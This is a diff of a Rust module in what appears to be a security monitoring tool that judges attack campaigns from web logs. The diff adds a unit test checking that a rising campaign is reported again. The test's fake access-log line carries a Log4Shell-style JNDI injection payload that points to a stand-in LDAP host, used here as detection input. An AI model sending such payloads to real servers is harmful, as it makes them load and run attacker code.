@@ -1,14 +1,13 @@
-//! Decisions by themselves, beside a server or a follower: when windows changed, everything is
-//! judged again, and a new campaign of attempts is told.
+//! Decisions by themselves, beside a server or a follower: when anything changed on which campaigns
+//! rest, they are judged again, and one of attempts that is new or rose is told.
 
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, mpsc};
 use std::thread;
 use std::time::{Duration, Instant};
 
-use relight_engine::store::Store;
-use relight_engine::{Engine, EngineError, begin_telling, tell_campaigns};
-use relight_model::{Campaign, Digest, Severity};
+use relight_engine::{Engine, EngineError, Judged, begin_telling, tell_campaigns};
+use relight_model::{Campaign, Severity};
 use relight_server::web::{number, texts};
 use serde::Serialize;
 
@@ -16,7 +15,7 @@ use crate::context::Context;
 use crate::failure::Failure;
 use crate::report::{Report, Style};
 
-/// How often is looked whether windows changed.
+/// How often is looked whether anything changed.
 const LOOK_EVERY: Duration = Duration::from_secs(5);
 
 /// So many times as long as judging took is waited before the next time: where there are thousands
@@ -61,17 +60,17 @@ impl Judging {
         context: &Context,
     ) -> Result<Self, Failure> {
         let failed = |error| Failure::engine(context.lang, &error);
-        begin_telling(engine.store()).map_err(failed)?;
+        begin_telling(engine).map_err(failed)?;
         let (sender, news) = mpsc::sync_channel(NEWS_MAX);
         let (engine, stop) = (Arc::clone(engine), Arc::clone(stop));
         thread::spawn(move || {
             let mut known = None;
             while !stop.load(Ordering::Relaxed) {
                 let begun = Instant::now();
-                look(engine.store(), &mut known, &sender);
+                look(&engine, &mut known, &sender);
                 let pause = (begun.elapsed() * PAUSE_TIMES).clamp(LOOK_EVERY, PAUSE_MAX);
                 let waited = Instant::now();
-                // Windows come from other processes too, and none of these tells this one.
+                // Changes come from other processes too, and none of these tells this one.
                 while waited.elapsed() < pause && !stop.load(Ordering::Relaxed) {
                     thread::sleep(STOP_EVERY);
                 }
@@ -94,20 +93,23 @@ impl Judging {
     }
 }
 
-/// Judges if windows changed.
-fn look(store: &Store, known: &mut Option<Digest>, sender: &mpsc::SyncSender<News>) {
-    let state = match store.windows_state() {
-        Ok(state) if *known == Some(state) => return,
-        Ok(state) => state,
-        Err(error) => return drop(sender.send(Err(error.into()))),
-    };
-    let news = tell_campaigns(store);
-    if news.is_ok() {
-        *known = Some(state);
-    }
+/// Judges, and sends what is news.
+fn look(engine: &Engine, known: &mut Option<Arc<Judged>>, sender: &mpsc::SyncSender<News>) {
+    let news = news(engine, known);
     if !matches!(&news, Ok(campaigns) if campaigns.is_empty()) {
         drop(sender.send(news));
     }
+}
+
+/// What nobody was told of; the same campaigns as at the last look are none.
+fn news(engine: &Engine, known: &mut Option<Arc<Judged>>) -> News {
+    let judged = engine.campaigns()?;
+    if known.as_ref().is_some_and(|known| Arc::ptr_eq(known, &judged)) {
+        return Ok(Vec::new());
+    }
+    let news = tell_campaigns(engine.store(), &judged.campaigns)?;
+    *known = Some(judged);
+    Ok(news)
 }
 
 fn tell_one(campaign: &Campaign, context: &Context, report: &mut Report) {
@@ -140,4 +142,66 @@ pub(crate) fn log_args(campaign: &Campaign) -> Vec<String> {
     let (organisations, sites) = (campaign.organisations.len(), campaign.sites.len());
     let severity = campaign.severity.as_str().to_owned();
     vec![campaign.id.clone(), organisations.to_string(), severity, sites.to_string()]
+}
+
+#[cfg(test)]
+mod tests {
+    use std::fs;
+    use std::io::Cursor;
+
+    use relight_engine::store::{SiteRow, Store};
+    use relight_engine::watch::Feed;
+    use relight_engine::{EngineOptions, SIGNS};
+    use relight_model::{Criticality, GateKey};
+
+    use super::*;
+
+    /// A register with one site of one body.
+    fn one_site(folder: &std::path::Path) -> (Engine, Feed) {
+        let site = SiteRow {
+            line: 1,
+            slug: GateKey::new("a").unwrap(),
+            name_fr: "A".to_owned(),
+            name_en: "A".to_owned(),
+            origin: "https://a.example".to_owned(),
+            organisation: "Body".to_owned(),
+            sector: "health".to_owned(),
+            criticality: Criticality::Important,
+            exposure: None,
+            aliases: None,
+            parts: None,
+            edge: "east".to_owned(),
+            public: true,
+        };
+        let store = Store::open(folder).unwrap();
+        store.apply_import(&store.plan_import(&[site]).unwrap(), 1, "test").unwrap();
+        let site = store.sites().unwrap().remove(0);
+        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+        let options = EngineOptions { holder: "test".into(), clock: || 0, inventory_ttl_s: 1 };
+        (Engine::open(Arc::new(store), options).unwrap(), feed)
+    }
+
+    /// Goal: a campaign that rises is told again whatever made it rise. Method: a sign is written
+    /// after its attempt, and no new window comes.
+    #[test]
+    fn a_campaign_that_rises_by_a_sign_is_told_without_a_new_window() {
+        let folder = tempfile::tempdir().unwrap();
+        let (engine, feed) = one_site(folder.path());
+        begin_telling(&engine).unwrap();
+        let (sender, heard) = mpsc::sync_channel(NEWS_MAX);
+        let mut known = None;
+        let mut told = || -> Vec<&'static str> {
+            look(&engine, &mut known, &sender);
+            let all = heard.try_iter().flat_map(Result::unwrap);
+            all.map(|campaign| campaign.severity.as_str()).collect()
+        };
+        assert_eq!(told(), [""; 0]);
+        let log = "198.51.100.1 - - [10/Dec/2021:12:00:00 +0000] \
+                   \"GET /?q=${jndi:ldap://x1.test/a} HTTP/1.1\" 200 9 \"-\" \"-\"\n";
+        engine.ingest_log(&feed, Cursor::new(log.as_bytes())).unwrap();
+        assert_eq!((told(), told()), (vec!["S3"], vec![]), "once");
+        let sign = "2021-12-10T12:00:05Z,a,name-query,x1.test\n";
+        fs::write(folder.path().join(SIGNS), sign).unwrap();
+        assert_eq!((told(), told()), (vec!["S5"], vec![]), "and once more");
+    }
 }
